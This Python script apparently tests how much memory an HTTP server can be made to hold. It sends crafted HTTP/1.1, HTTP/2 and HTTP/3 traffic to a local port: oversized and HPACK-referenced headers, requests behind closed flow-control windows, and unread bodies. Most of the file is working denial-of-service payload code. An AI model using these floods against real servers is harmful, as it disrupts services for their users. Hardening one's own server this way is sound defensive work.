#!/usr/bin/env python3
"""Clients that make a server keep as much memory as they can: exhaust.py [--over tcp|tls|http3] PID PORT COUNT [KIND...]. The server has the
usual limits and the files / and /large, or is a proxy for such a one. HTTP/3 needs aioquic. For each kind of attack this many clients attack at the same time, until the server has nothing more to say to them. Meanwhile,
and when they have left, another client asks for /: over TCP, with TLS if the attackers have it, too.
Prints a line for each kind: its name, the status of the answer meanwhile ("none" if there was none within half a second), that afterwards, and
the kilobytes of the process with this number at most: first those that `ulimit -d` counts, then those that it has used.
"""
import argparse
import select
import socket
import ssl
import struct
import time

HEAD_BYTES = 51200
STREAMS = 128


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8  # of HTTP/2; the first two are those of HTTP/3, too
END_STREAM, END_HEADERS = 1, 4


def number(prefix, bits, value):
    most = (1 << bits) - 1
    if value < most:
        return bytes([prefix | value])
    out, value = [prefix | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def text(value):
    return number(0, 7, len(value)) + value


def fields(method, path, more=b""):
    """An HPACK block of static names: :method, :scheme, :path, :authority."""
    return b"\x02" + text(method) + b"\x86" + b"\x04" + text(path) + b"\x01" + text(b"localhost") + more


def opening(window):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))


# A field that enters HPACK's table, and the number of times that a head refers to it. Each reference takes a byte.
BIG = b"\x40" + text(b"x") + text(b"y" * 3900)
REFERENCES = b"\xbe" * (HEAD_BYTES // 3950)


def http1_heads():
    lines = b"".join(b"X-%d: %s\r\n" % (i, b"y" * 3900) for i in range(HEAD_BYTES // 3950))
    return b"GET / HTTP/1.1\r\nHost: localhost\r\n" + lines


def http1_files():
    """Requests one behind the other, for files that nobody reads."""
    return b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500


def http2_large_heads():
    """Requests whose heads are as large as they may be, and that cannot be answered."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, fields(b"GET", b"/large", BIG))
    others = fields(b"GET", b"/large", REFERENCES)
    return opening(0) + first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, others) for i in range(1, STREAMS))


def http2_small_fields():
    block = fields(b"GET", b"/large", b"\x40" + text(b"x") + text(b"y"))
    many = fields(b"GET", b"/large", b"\xbe" * 120)
    return opening(0) + frame(HEADERS, 5, 1, block) + b"".join(frame(HEADERS, 5, 2 * i + 1, many) for i in range(1, STREAMS))


def http2_open_heads():
    """A head that does not end."""
    block = fields(b"GET", b"/large", BIG + REFERENCES)
    return opening(0) + frame(HEADERS, END_STREAM, 1, block)


def http2_files():
    """Files for which the windows are closed."""
    block = fields(b"GET", b"/large")
    return opening(0) + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i in range(STREAMS))


def http2_unread_files():
    """Files for which the windows are open, and which nobody reads. Some of the requests have large heads."""
    small, large = fields(b"GET", b"/large"), fields(b"GET", b"/large", REFERENCES)
    requests = [fields(b"GET", b"/large", BIG)] + [large] * 12 + [small] * (STREAMS - 13)
    return (opening(2**31 - 1) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536))
            + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i, block in enumerate(requests)))


def http2_bodies():
    """Bodies that the server does not read, as far as the first windows go."""
    block = fields(b"POST", b"/")
    requests = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(STREAMS))
    return opening(65535) + requests + b"".join(frame(DATA, 0, 2 * i + 1, b"z" * 16384) for i in range(64))


ATTACKS = [http1_heads, http1_files, http2_large_heads, http2_small_fields, http2_open_heads, http2_files, http2_unread_files, http2_bodies]
KINDS = {attack.__name__: attack for attack in ATTACKS}


def http3_files(client):
    """Files for which the windows are closed."""
    for _ in range(STREAMS):
        client.ask("GET", "/large")


def http3_large_heads(client):
    """Requests whose heads are as large as they may be, and that cannot be answered: more than a connection may have of them."""
    for _ in range(20):
        client.ask("GET", "/large", [(b"x-%d" % i, b"y" * 3900) for i in range(HEAD_BYTES // 4000)])


def http3_unread_files(client):
    """Files for which the windows are open, from a client that is deaf from then on."""
    client.open_windows()
    for _ in range(STREAMS):
        client.ask("GET", "/large")
    client.is_deaf = True


def http3_bodies(client):
    """Bodies that the server does not read, as far as the first windows go."""
    for _ in range(64):
        client.send_body(client.ask("POST", "/", is_whole=False), b"z" * 16384)


HTTP3_KINDS = {attack.__name__: attack for attack in [http3_files, http3_large_heads, http3_unread_files, http3_bodies]}


class Http3Client:
    """A client of HTTP/3 whose windows for answers are closed."""

    def __init__(self, port):
        from aioquic.buffer import encode_uint_var
        from aioquic.h3.connection import H3Connection
        from aioquic.quic.configuration import QuicConfiguration
        from aioquic.quic.connection import QuicConnection
        from aioquic.quic.events import HandshakeCompleted

        self.make_http, self.completed = H3Connection, HandshakeCompleted
        self.frame = lambda kind, payload: encode_uint_var(kind) + encode_uint_var(len(payload)) + payload
        self.address = ("127.0.0.1", port)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        self.socket.connect(self.address)
        self.quic = QuicConnection(configuration=QuicConfiguration(alpn_protocols=["h3"], server_name="localhost", verify_mode=ssl.CERT_NONE))
        self.quic._local_max_stream_data_bidi_local = 0
        self.http, self.is_deaf = None, False
        self.quic.connect(self.address, now=time.monotonic())
        self.flush()

    def open_windows(self):
        self.quic._local_max_stream_data_bidi_local = 2**30

    def ask(self, method, path, more=(), is_whole=True):
        """With a head that it makes itself: aioquic's have four kilobytes at most."""
        stream = self.quic.get_next_available_stream_id()
        pseudo = [(b":method", method.encode()), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path.encode())]
        block = b"\0\0" + b"".join(number(0x20, 3, len(name)) + name + text(value) for name, value in pseudo + list(more))
        self.quic.send_stream_data(stream, self.frame(HEADERS, block), is_whole)
        return stream

    def send_body(self, stream, bytes_of):
        self.quic.send_stream_data(stream, self.frame(DATA, bytes_of))

    def flush(self):
        for datagram, _ in self.quic.datagrams_to_send(now=time.monotonic()):
            try:
                self.socket.send(datagram)
            except OSError:
                pass

    def turn(self, kind):
        """Receives and sends what there is. Attacks when the handshake is over. Whether the server has sent something."""
        moved = False
        while not self.is_deaf:
            try:
                datagram = self.socket.recv(65536)
            except OSError:
                break
            moved = True
            self.quic.receive_datagram(datagram, self.address, now=time.monotonic())
        timer = self.quic.get_timer()
        if timer is not None and timer <= time.monotonic():
            self.quic.handle_timer(now=time.monotonic())
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, self.completed):
                self.http = self.make_http(self.quic)
                HTTP3_KINDS[kind](self)
        self.flush()
        return moved

    def close(self):
        self.quic.close()
        self.flush()
        self.socket.close()


def attack_http3(pid, port, count, kind):
    clients = [Http3Client(port) for _ in range(count)]
    end = time.monotonic() + 20
    quiet_since, most = time.monotonic(), (0, 0)
    while time.monotonic() < min(end, quiet_since + 1):
        select.select([client.socket for client in clients if not client.is_deaf], [], [], 0.1)
        if any([client.turn(kind) for client in clients]):
            quiet_since = time.monotonic()
        most = max(most, kilobytes_of(pid))
    if any(client.http is None for client in clients):
        raise SystemExit("a handshake is not over")
    meanwhile = status_of_honest(port, 0.5, True)
    most = max(most, kilobytes_of(pid))
    for client in clients:
        client.close()
    return meanwhile, most


def protected(client, protocol):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(client, server_hostname="localhost")


def status_of_honest(port, seconds, has_tls):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=seconds) as plain:
            client = protected(plain, "http/1.1") if has_tls else plain
            client.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            return client.recv(1000).split(b" ")[1].decode()
    except (OSError, IndexError):
        return "none"


def kilobytes_of(pid):
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as lines:
            found = dict(line.split(":", 1) for line in lines)
        return int(found["VmData"].split()[0]), int(found["RssAnon"].split()[0])
    except (FileNotFoundError, ProcessLookupError, KeyError):  # it has ended
        return 0, 0


def attack(pid, port, count, kind, has_tls):
    """Sends until the server takes no more and says no more for a while."""
    bytes_of = KINDS[kind]()
    left = {}
    for _ in range(count):
        client = socket.socket()
        if has_tls:
            client.connect(("127.0.0.1", port))
            client = protected(client, "h2" if kind.startswith("http2") else "http/1.1")
            client.setblocking(False)
        else:
            client.setblocking(False)
            client.connect_ex(("127.0.0.1", port))
        left[client] = memoryview(bytes_of)
    clients = set(left)
    reads = kind.startswith("http2") and kind != "http2_unread_files"
    quiet_since = time.monotonic()
    most = (0, 0)
    end = quiet_since + 8
    while time.monotonic() - quiet_since < 0.5 and time.monotonic() < end:
        readable, writable, _ = select.select(clients if reads else [], [c for c in clients if left[c]], [], 0.1)
        moved = False
        for client in writable:
            try:
                sent = client.send(left[client][:65536])
                left[client] = left[client][sent:]
                moved = True
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                clients.discard(client)
        for client in readable:
            try:
                if client.recv(65536):
                    moved = True
                else:
                    clients.discard(client)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                clients.discard(client)
        if moved:
            quiet_since = time.monotonic()
        most = max(most, kilobytes_of(pid))
    meanwhile = status_of_honest(port, 0.5, has_tls)
    most = max(most, kilobytes_of(pid))
    for client in left:
        client.close()
    return meanwhile, most


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--over", choices=["tcp", "tls", "http3"], default="tcp")
    for number_of in ["pid", "port", "count"]:
        parser.add_argument(number_of, type=int)
    parser.add_argument("kinds", nargs="*")
    wanted = parser.parse_args()
    has_tls = wanted.over != "tcp"
    for kind in wanted.kinds or (HTTP3_KINDS if wanted.over == "http3" else KINDS):
        if wanted.over == "http3":
            meanwhile, most = attack_http3(wanted.pid, wanted.port, wanted.count, kind)
        else:
            meanwhile, most = attack(wanted.pid, wanted.port, wanted.count, kind, has_tls)
        # The server may still be giving back what the attack made it keep, and refuse until then.
        after, until = "none", time.monotonic() + 60
        while after != "200" and time.monotonic() < until:
            after = status_of_honest(wanted.port, 5, has_tls)
            time.sleep(0.1)
        print(kind, meanwhile, after, *most, flush=True)


main()
